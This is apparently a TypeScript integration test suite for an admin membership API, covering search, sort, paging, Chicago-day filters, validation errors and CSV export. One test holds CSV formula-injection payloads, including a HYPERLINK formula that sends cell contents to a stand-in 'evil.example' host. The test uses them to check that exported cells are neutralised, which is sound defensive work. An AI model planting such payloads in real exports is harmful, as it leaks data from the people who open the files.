// The admin lists at scale: search, sort, filters and paging on the server, the counts, the CSV
// export of the filtered view (formulas neutralised), and a 400 for every bad parameter.
import type { MembershipListResponse } from 'shared/types';
import { updateUser } from '../../core/users/user-repository';
import { ADMIN_EMAIL, ADMIN_PASSWORD, byBearer } from '../../test/admin';
import { call, login, type Login } from '../../test/http';
import { addMember, addPendingApplication } from '../../test/members';
import { createTestDatabase, dropTestDatabases, engines } from '../../test/test-database';
import { startTestServer, type TestServer } from '../../test/test-server';
import { APPROVED_CSV_COLUMNS, APPROVED_MEMBERS_PATH, PENDING_CSV_COLUMNS, PENDING_REQUESTS_PATH } from './membership-admin-routes';

/** A Chicago wall-clock time as the UTC ISO text the database keeps (CST is UTC-6, CDT UTC-5). */
const chicago = (day: string, time: string, offsetHours: 5 | 6) =>
  new Date(Date.parse(`${day}T${time}.000Z`) + offsetHours * 3_600_000).toISOString();

/** Parses the CSV the API sends (every cell quoted, fetch has dropped the BOM) into rows of cells. */
function parseCsv(text: string): string[][] {
  expect(text.endsWith('\r\n')).toBe(true);
  return text
    .slice(0, -2)
    .split('\r\n')
    .map((line) => [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map((m) => (m[1] ?? '').replace(/""/g, '"')));
}

describe.each(engines)('admin lists: search, sort, filter, paging, CSV (%s)', (engine) => {
  let server: TestServer;
  let admin: Login;
  /** Pending applicants, by name: sent one a day in January 2025, in this order. */
  const pendingNames = ['delta Dawn', 'Alpha Adams', 'charlie Chaplin', 'Bravo Brown', 'echo Evans', 'Foxtrot Ford'];
  const pendingIds = new Map<string, string>();

  beforeAll(async () => {
    server = await startTestServer(await createTestDatabase(engine), { ADMIN_EMAIL, ADMIN_PASSWORD, SEED_DEMO: '0' });
    admin = await login(server, ADMIN_EMAIL, ADMIN_PASSWORD);
    for (const [index, fullName] of pendingNames.entries()) {
      const sent = `2025-01-0${index + 1}T18:00:00.000Z`;
      const profession = index % 2 === 0 ? 'Chef / Culinary Professional' : 'Lawyer';
      const application = await addPendingApplication(server.app.db, { fullName, profession, email: `${fullName.split(' ')[0]?.toLowerCase()}@example.com` }, sent);
      pendingIds.set(fullName, application.id);
    }
  });

  afterAll(async () => {
    await server?.close();
    await dropTestDatabases();
  });

  const get = (path: string) => call(server, path, { headers: byBearer(admin) });
  const page = async (path: string, query = ''): Promise<MembershipListResponse> => {
    const res = await get(`${path}${query ? `?${query}` : ''}`);
    expect([res.status, res.text.slice(0, 200)]).toEqual([200, expect.any(String)]);
    return res.body;
  };
  const names = async (path: string, query = '') => (await page(path, query)).data.map((r) => r.fullName);

  describe('pending requests', () => {
    it('answers { data, total, page, pageSize }, oldest first by default (as the list always was), 25 a page', async () => {
      const body = await page(PENDING_REQUESTS_PATH);
      expect(Object.keys(body)).toEqual(['data', 'total', 'page', 'pageSize']);
      expect(body).toMatchObject({ total: 6, page: 1, pageSize: 25 });
      expect(body.data.map((r) => r.fullName)).toEqual(pendingNames);
    });

    it('sorts by name (ignoring case) and by date, both ways, ties broken the same way every time', async () => {
      const byName = ['Alpha Adams', 'Bravo Brown', 'charlie Chaplin', 'delta Dawn', 'echo Evans', 'Foxtrot Ford'];
      expect(await names(PENDING_REQUESTS_PATH, 'sort=name')).toEqual(byName);
      expect(await names(PENDING_REQUESTS_PATH, 'sort=-name')).toEqual([...byName].reverse());
      expect(await names(PENDING_REQUESTS_PATH, 'sort=date')).toEqual(pendingNames);
      expect(await names(PENDING_REQUESTS_PATH, 'sort=-date')).toEqual([...pendingNames].reverse());
    });

    it('pages: the counts stay, the last page is short, past it the list is empty', async () => {
      expect(await page(PENDING_REQUESTS_PATH, 'pageSize=4&page=1')).toMatchObject({ total: 6, page: 1, pageSize: 4 });
      expect(await names(PENDING_REQUESTS_PATH, 'pageSize=4&page=2')).toEqual(pendingNames.slice(4));
      expect(await page(PENDING_REQUESTS_PATH, 'pageSize=4&page=3')).toEqual({ data: [], total: 6, page: 3, pageSize: 4 });
      expect(await names(PENDING_REQUESTS_PATH, 'pageSize=1&page=6')).toEqual([pendingNames[5]]);
      expect(await page(PENDING_REQUESTS_PATH, 'pageSize=100')).toMatchObject({ total: 6, pageSize: 100 });
      // Every item exactly once over the pages, in the sort's order.
      const paged = [];
      for (let n = 1; n <= 3; n += 1) paged.push(...(await names(PENDING_REQUESTS_PATH, `sort=-name&pageSize=2&page=${n}`)));
      expect(paged).toEqual(await names(PENDING_REQUESTS_PATH, 'sort=-name'));
    });

    it('searches name, e-mail and profession, ignoring case, with the total of what matches', async () => {
      expect(await names(PENDING_REQUESTS_PATH, 'q=ALPHA')).toEqual(['Alpha Adams']);
      expect(await names(PENDING_REQUESTS_PATH, 'q=echo%40example')).toEqual(['echo Evans']);
      expect(await page(PENDING_REQUESTS_PATH, 'q=culinary&pageSize=2')).toMatchObject({ total: 3, pageSize: 2 });
      expect(await names(PENDING_REQUESTS_PATH, 'q=culinary&sort=name')).toEqual(['charlie Chaplin', 'delta Dawn', 'echo Evans']);
      expect(await names(PENDING_REQUESTS_PATH, 'q=%20%20')).toEqual(pendingNames);
      expect(await page(PENDING_REQUESTS_PATH, 'q=nobody-here')).toEqual({ data: [], total: 0, page: 1, pageSize: 25 });
    });

    it('matches % and _ as themselves, not as wildcards', async () => {
      expect(await names(PENDING_REQUESTS_PATH, 'q=%25')).toEqual([]);
      expect(await names(PENDING_REQUESTS_PATH, 'q=_')).toEqual([]);
      expect(await names(PENDING_REQUESTS_PATH, 'q=a_a')).toEqual([]);
      const odd = await addPendingApplication(server.app.db, { fullName: 'Percent 100% Under_Score' }, '2024-06-01T12:00:00.000Z');
      expect((await page(PENDING_REQUESTS_PATH, 'q=100%25')).data.map((r) => r.id)).toEqual([odd.id]);
      expect((await page(PENDING_REQUESTS_PATH, 'q=r_s')).data.map((r) => r.id)).toEqual([odd.id]);
      await server.app.db.deleteFrom('membership_applications').where('id', '=', odd.id).execute();
    });

    it('filters by the day sent, Chicago days, both ends included', async () => {
      // Sent 2025-01-02T18:00Z and 2025-01-03T18:00Z are noon on the 2nd and 3rd in Chicago.
      expect(await names(PENDING_REQUESTS_PATH, 'from=2025-01-02&to=2025-01-03')).toEqual(pendingNames.slice(1, 3));
      expect(await names(PENDING_REQUESTS_PATH, 'from=2025-01-05')).toEqual(pendingNames.slice(4));
      expect(await names(PENDING_REQUESTS_PATH, 'to=2025-01-01')).toEqual(pendingNames.slice(0, 1));
      expect(await names(PENDING_REQUESTS_PATH, 'from=2025-01-04&to=2025-01-04')).toEqual([pendingNames[3]]);
    });

    it('draws a day at Chicago midnight, not UTC (CST and CDT)', async () => {
      const late = await addPendingApplication(server.app.db, { fullName: 'Late Night' }, chicago('2024-12-10', '23:30:00', 6));
      const summer = await addPendingApplication(server.app.db, { fullName: 'Summer Night' }, chicago('2024-07-10', '23:30:00', 5));
      const early = await addPendingApplication(server.app.db, { fullName: 'Early Summer' }, chicago('2024-07-11', '00:00:00', 5));
      expect(await names(PENDING_REQUESTS_PATH, 'from=2024-12-10&to=2024-12-10')).toEqual(['Late Night']);
      expect(await names(PENDING_REQUESTS_PATH, 'from=2024-12-11&to=2024-12-11')).toEqual([]);
      expect(await names(PENDING_REQUESTS_PATH, 'from=2024-07-10&to=2024-07-10')).toEqual(['Summer Night']);
      expect(await names(PENDING_REQUESTS_PATH, 'from=2024-07-11&to=2024-07-11')).toEqual(['Early Summer']);
      await server.app.db.deleteFrom('membership_applications').where('id', 'in', [late.id, summer.id, early.id]).execute();
    });

    it('refuses a bad parameter with a 400 naming it, never a silent default', async () => {
      const cases: [string, { field: string; message: string }[]][] = [
        ['sort=age', [{ field: 'sort', message: 'Must be one of name, -name, date, -date' }]],
        ['page=0', [{ field: 'page', message: 'Must be 1 or more' }]],
        ['page=-1', [{ field: 'page', message: 'Must be a whole number' }]],
        ['page=1.5', [{ field: 'page', message: 'Must be a whole number' }]],
        ['page=abc', [{ field: 'page', message: 'Must be a whole number' }]],
        ['pageSize=0', [{ field: 'pageSize', message: 'Must be 1 or more' }]],
        ['pageSize=101', [{ field: 'pageSize', message: 'Must be at most 100' }]],
        ['pageSize=99999999999', [{ field: 'pageSize', message: 'Must be a whole number' }]],
        ['from=2025-02-30', [{ field: 'from', message: 'Must be a date written YYYY-MM-DD' }]],
        ['to=yesterday', [{ field: 'to', message: 'Must be a date written YYYY-MM-DD' }]],
        ['from=2025-01-05&to=2025-01-04', [{ field: 'to', message: 'Must not be before from' }]],
        ['status=active', [{ field: 'status', message: 'Unknown field' }]],
        ['q=a&q=b', [{ field: 'q', message: 'Must be a string, not array' }]],
        [`q=${'x'.repeat(201)}`, [{ field: 'q', message: 'Must be at most 200 characters' }]],
      ];
      for (const [query, fields] of cases) {
        const res = await get(`${PENDING_REQUESTS_PATH}?${query}`);
        expect([query, res.status, res.body]).toEqual([query, 400, { message: fields }]);
        const csv = await get(`${PENDING_REQUESTS_PATH}.csv?${query}`);
        expect([query, csv.status]).toEqual([query, 400]);
      }
    });
  });

  describe('approved members', () => {
    let blockedId: string;
    let leavingId: string;

    beforeAll(async () => {
      const approve = (fullName: string, reviewedAt: string, extra: Parameters<typeof addMember>[1] = { fullName }) =>
        addMember(server.app.db, { ...extra, fullName, applications: [{ status: 'approved', reviewedAt, profession: 'Engineer' }] }, admin.user.id);
      await approve('Yara Young', '2025-03-01T18:00:00.000Z');
      await approve('xavier Xu', '2025-03-02T18:00:00.000Z');
      blockedId = (await approve('Wendy West', '2025-03-03T18:00:00.000Z', { fullName: 'Wendy West', isActive: false })).id;
      await approve('Victor Vance', '2025-03-04T18:00:00.000Z');
      leavingId = (await approve('Uma Upton', '2025-03-05T18:00:00.000Z')).id;
      await server.app.db
        .insertInto('member_departures')
        .values({ user_id: leavingId, requested_at: new Date().toISOString(), erase_after: new Date().toISOString(), erased_at: null, erased_by: null })
        .execute();
      await updateUser(server.app.db, leavingId, { isActive: false });
    });

    it('answers newest approval first by default, without members who asked to leave', async () => {
      const body = await page(APPROVED_MEMBERS_PATH);
      expect(body.total).toBe(4);
      expect(body.data.map((r) => r.fullName)).toEqual(['Victor Vance', 'Wendy West', 'xavier Xu', 'Yara Young']);
      const stats = await get('/api/admin/membership/stats');
      expect(stats.body).toEqual({ pending: 6, approved: 4 });
    });

    it('sorts by name and by approval date', async () => {
      expect(await names(APPROVED_MEMBERS_PATH, 'sort=name')).toEqual(['Victor Vance', 'Wendy West', 'xavier Xu', 'Yara Young']);
      expect(await names(APPROVED_MEMBERS_PATH, 'sort=-name')).toEqual(['Yara Young', 'xavier Xu', 'Wendy West', 'Victor Vance']);
      expect(await names(APPROVED_MEMBERS_PATH, 'sort=date')).toEqual(['Yara Young', 'xavier Xu', 'Wendy West', 'Victor Vance']);
    });

    it('pages, counting every match on every page, past the last one too, whatever the order and search', async () => {
      for (const query of ['', 'sort=name', 'sort=-name', 'q=engineer', 'q=engineer&sort=date', 'status=active&sort=-name']) {
        const all = await names(APPROVED_MEMBERS_PATH, query);
        const paged = [];
        for (let n = 1; n <= all.length + 1; n += 1) {
          const one = await page(APPROVED_MEMBERS_PATH, `${query}&pageSize=1&page=${n}`);
          expect([query, one.total, one.page, one.pageSize]).toEqual([query, all.length, n, 1]);
          paged.push(...one.data.map((r) => r.fullName));
        }
        expect([query, paged]).toEqual([query, all]);
      }
    });

    it('filters active or blocked members, and by approval day', async () => {
      expect(await page(APPROVED_MEMBERS_PATH, 'status=blocked')).toMatchObject({ total: 1, data: [{ user: { id: blockedId, isActive: false } }] });
      expect(await names(APPROVED_MEMBERS_PATH, 'status=active&sort=name')).toEqual(['Victor Vance', 'xavier Xu', 'Yara Young']);
      expect(await names(APPROVED_MEMBERS_PATH, 'from=2025-03-02&to=2025-03-03')).toEqual(['Wendy West', 'xavier Xu']);
      expect(await names(APPROVED_MEMBERS_PATH, 'status=active&from=2025-03-02&to=2025-03-03')).toEqual(['xavier Xu']);
      const bad = await get(`${APPROVED_MEMBERS_PATH}?status=gone`);
      expect([bad.status, bad.body]).toEqual([400, { message: [{ field: 'status', message: 'Must be one of active, blocked' }] }]);
    });

    it('searches the account’s current name and e-mail, and the profession', async () => {
      expect(await names(APPROVED_MEMBERS_PATH, 'q=VANCE')).toEqual(['Victor Vance']);
      expect(await page(APPROVED_MEMBERS_PATH, 'q=engineer')).toMatchObject({ total: 4 });
      expect(await names(APPROVED_MEMBERS_PATH, 'q=upton')).toEqual([]);
    });

    it('exports the whole filtered view as CSV, in its order, whatever the page', async () => {
      const res = await get(`${APPROVED_MEMBERS_PATH}.csv?status=active&sort=name&page=2&pageSize=1`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="approved-members-\d{4}-\d\d-\d\d\.csv"$/);
      const rows = parseCsv(res.text);
      expect(rows[0]).toEqual([...APPROVED_CSV_COLUMNS]);
      expect(rows.slice(1).map((row) => [row[0], row[4]])).toEqual([
        ['Victor Vance', 'Active'], ['xavier Xu', 'Active'], ['Yara Young', 'Active'],
      ]);
      expect(rows[1]?.[2]).toBe("'+13125550100");
      expect(rows[1]?.[5]).toBe('2025-03-04T18:00:00.000Z');
    });
  });

  describe('CSV export of pending requests', () => {
    it('has the view’s columns, the filtered rows in order, and a dated file name', async () => {
      const res = await get(`${PENDING_REQUESTS_PATH}.csv?q=culinary&sort=-name`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="pending-requests-\d{4}-\d\d-\d\d\.csv"$/);
      const rows = parseCsv(res.text);
      expect(rows[0]).toEqual([...PENDING_CSV_COLUMNS]);
      // UTF-8 with a byte order mark, so spreadsheets read accents right.
      const raw = await fetch(`${server.url}${PENDING_REQUESTS_PATH}.csv`, { headers: byBearer(admin) });
      expect([...new Uint8Array(await raw.arrayBuffer()).slice(0, 4)]).toEqual([0xef, 0xbb, 0xbf, '"'.charCodeAt(0)]);
      expect(rows.slice(1).map((row) => row[0])).toEqual(['echo Evans', 'delta Dawn', 'charlie Chaplin']);
      expect(rows[1]).toEqual(['echo Evans', 'echo@example.com', "'+13125550100", 'Chef / Culinary Professional', '2025-01-05T18:00:00.000Z']);
    });

    it('neutralises every cell a spreadsheet would run as a formula', async () => {
      const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1,2)', '\tTAB=1', '  =1+1'];
      const ids: string[] = [];
      for (const [index, text] of hostile.entries()) {
        const application = await addPendingApplication(server.app.db, {}, `2023-01-0${index + 1}T18:00:00.000Z`);
        // Stored as is (the form would trim): a cell may begin with anything.
        await server.app.db.updateTable('membership_applications').set({ full_name: text, profession: text }).where('id', '=', application.id).execute();
        ids.push(application.id);
      }
      const rows = parseCsv((await get(`${PENDING_REQUESTS_PATH}.csv?to=2023-12-31`)).text).slice(1);
      expect(rows.map((row) => row[0])).toEqual(hostile.map((text) => `'${text}`));
      expect(rows.map((row) => row[3])).toEqual(hostile.map((text) => `'${text}`));
      for (const row of rows) {
        for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@\t\r]/);
      }
      // The text itself is kept (a quote doubled inside the quoted cell), only made inert.
      expect(rows[0]?.[0]).toBe(`'${hostile[0]}`);
      await server.app.db.deleteFrom('membership_applications').where('id', 'in', ids).execute();
    });
  });
});
